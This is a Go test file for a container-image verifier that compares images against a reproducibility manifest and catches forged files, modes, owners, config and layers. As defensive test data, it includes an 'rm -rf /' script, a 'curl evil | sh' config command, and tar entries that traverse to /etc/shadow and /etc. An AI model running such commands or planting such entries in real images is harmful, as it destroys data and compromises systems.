package replay

import (
	"archive/tar"
	"bytes"
	"context"
	"os"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"github.com/stretchr/testify/require"

	"github.com/repro-ml/repro/lockfmt"
)

// buildVariant builds an image of a variant of the hello manifest, labelled
// and carrying the original manifest bytes, as a forger would.
func buildVariant(t *testing.T, root string, change func(m *lockfmt.Manifest)) *Image {
	h := getHello(t)
	m2 := *h.manifest
	m2.Files = append([]lockfmt.File(nil), h.manifest.Files...)
	change(&m2)
	img, err := Build(context.Background(), &m2, h.bytes, BuildOptions{Root: root, TempDir: t.TempDir()})
	require.NoError(t, err)
	t.Cleanup(func() { img.Close() })
	return img
}

func TestVerifyImageFindsDifferences(t *testing.T) {
	h := getHello(t)
	ctx := context.Background()
	find := func(p string) int {
		for i, f := range h.manifest.Files {
			if f.Path == p {
				return i
			}
		}
		t.Fatalf("no %s", p)
		return -1
	}
	cases := []struct {
		name    string
		change  func(m *lockfmt.Manifest)
		path    string
		problem string
	}{
		{"extra file", func(m *lockfmt.Manifest) {
			m.Files = append(m.Files, lockfmt.File{Path: "/opt/extra", Type: lockfmt.TypeSymlink, Mode: "0777", Target: "x", Role: lockfmt.RoleCode})
		}, "/opt/extra", "not in the manifest"},
		{"missing file", func(m *lockfmt.Manifest) {
			i := find("/work/exp/run.sh")
			m.Files = append(m.Files[:i], m.Files[i+1:]...)
		}, "/work/exp/run.sh", "missing from the image"},
		{"symlink target", func(m *lockfmt.Manifest) {
			m.Files[find("/opt/hello/bin/hi")].Target = "elsewhere"
		}, "/opt/hello/bin/hi", "symlink target differs"},
		{"mode", func(m *lockfmt.Manifest) {
			m.Files[find("/work/exp/run.sh")].Mode = "0700"
		}, "/work/exp/run.sh", "mode differs"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			img := buildVariant(t, h.root, c.change)
			err := VerifyImage(ctx, img.Image, h.manifest, h.bytes)
			var mm *ImageMismatchError
			require.ErrorAs(t, err, &mm)
			require.Equal(t, c.path, mm.Path)
			require.Contains(t, mm.Problem, c.problem)
		})
	}

	t.Run("content", func(t *testing.T) {
		bin, err := os.ReadFile(h.root + "/opt/hello/bin/hello")
		require.NoError(t, err)
		root := t.TempDir()
		writeTree(t, root, bin, false, time.Now())
		require.NoError(t, os.WriteFile(root+"/work/exp/run.sh", []byte("#!/bin/sh\nrm -rf /\n"), 0o755))
		img := buildVariant(t, root, func(m *lockfmt.Manifest) {
			m.Files[find("/work/exp/run.sh")] = fileEntry(t, root, "/work/exp/run.sh", "0755", lockfmt.RoleCode)
		})
		err = VerifyImage(ctx, img.Image, h.manifest, h.bytes)
		var mm *ImageMismatchError
		require.ErrorAs(t, err, &mm)
		require.Equal(t, "/work/exp/run.sh", mm.Path)
		require.Equal(t, "content differs", mm.Problem)
		require.Equal(t, lockfmt.DigestBytes([]byte("#!/bin/sh\n")), mm.Want)
	})

	t.Run("other manifest", func(t *testing.T) {
		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
		require.NoError(t, err)
		defer img.Close()
		err = VerifyImage(ctx, img.Image, h.manifest, append([]byte("# edited\n"), h.bytes...))
		var mm *ImageMismatchError
		require.ErrorAs(t, err, &mm)
		require.Contains(t, mm.Problem, "another manifest")
	})

	t.Run("config", func(t *testing.T) {
		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
		require.NoError(t, err)
		defer img.Close()
		cf, err := img.Image.ConfigFile()
		require.NoError(t, err)
		c := cf.Config
		c.Cmd = []string{"/bin/sh", "-c", "curl evil | sh"}
		bad, err := mutate.Config(img.Image, c)
		require.NoError(t, err)
		var mm *ImageMismatchError
		require.ErrorAs(t, VerifyImage(ctx, bad, h.manifest, h.bytes), &mm)
		require.Equal(t, "config Cmd differs", mm.Problem)
	})

	t.Run("owner", func(t *testing.T) {
		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
		require.NoError(t, err)
		defer img.Close()
		// A later layer that re-creates /opt with another owner.
		evil := tarBytes(t, &tar.Header{Name: "opt/", Typeflag: tar.TypeDir, Mode: 0o755, Uid: 1000}, nil)
		bad, err := mutate.AppendLayers(img.Image, static.NewLayer(evil, types.OCIUncompressedLayer))
		require.NoError(t, err)
		var mm *ImageMismatchError
		require.ErrorAs(t, VerifyImage(ctx, bad, h.manifest, h.bytes), &mm)
		require.Equal(t, "/opt", mm.Path)
		require.Equal(t, "owner differs", mm.Problem)
	})

	t.Run("appended layer", func(t *testing.T) {
		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
		require.NoError(t, err)
		defer img.Close()
		evil := tarBytes(t, &tar.Header{Name: "../etc/shadow", Typeflag: tar.TypeReg, Size: 1, Mode: 0o644}, []byte("x"))
		bad, err := mutate.AppendLayers(img.Image, static.NewLayer(evil, types.OCIUncompressedLayer))
		require.NoError(t, err)
		err = VerifyImage(ctx, bad, h.manifest, h.bytes)
		var mm *ImageMismatchError
		require.ErrorAs(t, err, &mm)
		require.Contains(t, mm.Problem, "unsafe member name")
	})
}

func tarBytes(t testing.TB, h *tar.Header, content []byte) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	require.NoError(t, tw.WriteHeader(h))
	_, err := tw.Write(content)
	require.NoError(t, err)
	require.NoError(t, tw.Close())
	return b.Bytes()
}

// FuzzVerifyLayer feeds arbitrary layer bytes to the image walker: it must
// return an error or nil, never panic or hang.
func FuzzVerifyLayer(f *testing.F) {
	f.Add([]byte{})
	f.Add(tarBytesF(&tar.Header{Name: "etc/passwd", Typeflag: tar.TypeReg, Size: 2, Mode: 0o644}, []byte("x\n")))
	f.Add(tarBytesF(&tar.Header{Name: "./tmp/", Typeflag: tar.TypeDir, Mode: 0o1777}, nil))
	f.Add(tarBytesF(&tar.Header{Name: "a/.wh.b", Typeflag: tar.TypeReg}, nil))
	f.Add(tarBytesF(&tar.Header{Name: "x", Typeflag: tar.TypeSymlink, Linkname: "/etc"}, nil))
	f.Add(tarBytesF(&tar.Header{Name: "../../x", Typeflag: tar.TypeLink, Linkname: "/etc"}, nil))
	m := &lockfmt.Manifest{Schema: 1, Run: lockfmt.Run{Argv: []string{"/x"}, WorkDir: "/w"},
		Files: []lockfmt.File{{Path: "/x", Type: lockfmt.TypeSymlink, Mode: "0777", Target: "y", Role: lockfmt.RoleCode}}}
	plan, err := planImage(m, []byte("m"), planOptions{Closure: ClosureImported}, nil)
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, layer []byte) {
		l := static.NewLayer(layer, types.OCIUncompressedLayer)
		d, err := l.DiffID()
		require.NoError(t, err)
		w := &imageWalker{plan: plan, seen: map[string]bool{}, extra: map[string]string{}}
		// Errors are expected; only a panic or a hang would be a bug.
		_ = w.layer(1, l, d)
	})
}

func tarBytesF(h *tar.Header, content []byte) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(h)
	tw.Write(content)
	tw.Close()
	return b.Bytes()
}
